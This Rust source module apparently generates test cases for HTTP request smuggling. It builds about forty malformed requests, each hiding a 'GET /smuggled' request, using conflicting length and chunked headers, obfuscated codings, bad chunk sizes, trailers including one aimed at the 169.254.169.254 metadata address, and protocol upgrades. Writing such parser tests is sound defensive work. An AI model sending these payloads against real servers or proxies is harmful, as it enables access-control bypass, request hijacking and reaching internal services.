//! Requests that two readers could read differently: each hides a second one, `GET /smuggled`.

/// The requests, each with its name: to `target`, with the header `host`; the hidden one is to the host `hidden_host`.
pub(super) fn requests(target: &str, host: &str, hidden_host: &str) -> Vec<(&'static str, Vec<u8>)> {
    let hidden = format!("GET /smuggled HTTP/1.1\r\nhost: {hidden_host}\r\nconnection: close\r\n\r\n");
    let (length, in_hex) = (hidden.len(), format!("{:x}", hidden.len()));
    let ended = format!("0\r\n\r\n{hidden}");
    let mut found = Vec::new();
    let mut add = |name, head: &str, body: &str| {
        let method = if target.starts_with("/upstream") { "GET" } else { "POST" };
        found.push((name, format!("{method} {target} HTTP/1.1\r\nhost: {host}\r\n{head}\r\n{body}").into_bytes()));
    };
    let chunked = "transfer-encoding: chunked\r\n";
    add("length and chunks", &format!("content-length: 6\r\n{chunked}"), &ended);
    add("chunks and length", &format!("{chunked}content-length: 3\r\n"), &ended);
    add("chunks and the whole length", &format!("{chunked}content-length: {}\r\n", ended.len()), &ended);
    add("two lengths", &format!("content-length: 0\r\ncontent-length: {length}\r\n"), &hidden);
    add("two lengths in one line", &format!("content-length: 0, {length}\r\n"), &hidden);
    add("two lengths that are the same", "content-length: 0\r\ncontent-length: 0\r\n", &hidden);
    add("a length with a sign", "content-length: +0\r\n", &hidden);
    add("a length below nothing", "content-length: -1\r\n", &hidden);
    add("a length in hexadecimal", "content-length: 0x0\r\n", &hidden);
    add("a length beyond all numbers", "content-length: 18446744073709551616\r\n", &hidden);
    add("a length behind a tab", "content-length:\t0\r\n", &hidden);
    add("a length with a space before the colon", "content-length : 0\r\n", &hidden);
    add("an empty length", "content-length:\r\n", &hidden);
    add("a folded line", &format!("x-a: 1\r\n {chunked}content-length: 0\r\n"), &ended);
    add("a folded coding", "transfer-encoding:\r\n chunked\r\n", &ended);
    add("an unknown coding", "transfer-encoding: xchunked\r\n", &ended);
    add("a coding behind another", "transfer-encoding: chunked, identity\r\n", &ended);
    add("a coding said twice", &format!("{chunked}{chunked}"), &ended);
    add("a coding of two lines", &format!("{chunked}transfer-encoding: x\r\n"), &ended);
    add("a coding behind a vertical tab", "transfer-encoding:\u{b}chunked\r\n", &ended);
    add("a coding with a space before the colon", "transfer-encoding : chunked\r\n", &ended);
    add("a coding in capitals", "TRANSFER-ENCODING: CHUNKED\r\n", &ended);
    add("a header's end by a newline alone", &format!("x: 1\n{chunked}\n"), &ended);
    add("a header's end by a carriage return alone", &format!("x: 1\r{chunked}"), &ended);
    add("a zero before the coding", &format!("x: \0\r\n{chunked}"), &ended);
    add("an extension of a chunk", chunked, &format!("0;x=\"\r\n\r\n{hidden}"));
    add("an extension with a newline alone", chunked, &format!("2;\nxx\r\n{in_hex}\r\n0\r\n\r\n{hidden}"));
    add("a chunk's size beyond all numbers", chunked, &format!("fffffffffffffff0\r\n{ended}"));
    add("a chunk's size with a sign", chunked, &format!("+0\r\n\r\n{hidden}"));
    add("a chunk's size in hexadecimal", chunked, &format!("0x0\r\n\r\n{hidden}"));
    add("a chunk's size with an underscore", chunked, &format!("0_0\r\n\r\n{hidden}"));
    add("chunks that end in a newline alone", chunked, &format!("0\n\n{hidden}"));
    add("a chunk longer than it says", chunked, &format!("1\r\nabc\r\n{ended}"));
    add("a trailer with a length", chunked, &format!("0\r\ncontent-length: {length}\r\n\r\n{hidden}"));
    add("a trailer with a host", chunked, &format!("0\r\nhost: 169.254.169.254\r\nauthorization: x\r\n\r\n{hidden}"));
    add(
        "the length named as the connection's",
        "connection: content-length\r\ncontent-length: 5\r\n",
        &format!("abcde{hidden}"),
    );
    add("the coding named as the connection's", &format!("connection: transfer-encoding\r\n{chunked}"), &ended);
    add("waiting for a word to go on", &format!("expect: 100-continue\r\ncontent-length: {length}\r\n"), &hidden);
    add("a second host", &format!("host: {hidden_host}\r\ncontent-length: 0\r\n"), &hidden);
    add(
        "an upgrade to HTTP/2",
        "connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk\r\n",
        &hidden,
    );
    add(
        "an upgrade to a socket",
        "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n",
        &hidden,
    );
    found.push((
        "chunks in HTTP/1.0",
        format!("POST {target} HTTP/1.0\r\nhost: {host}\r\nconnection: keep-alive\r\n{chunked}\r\n{ended}")
            .into_bytes(),
    ));
    found
}
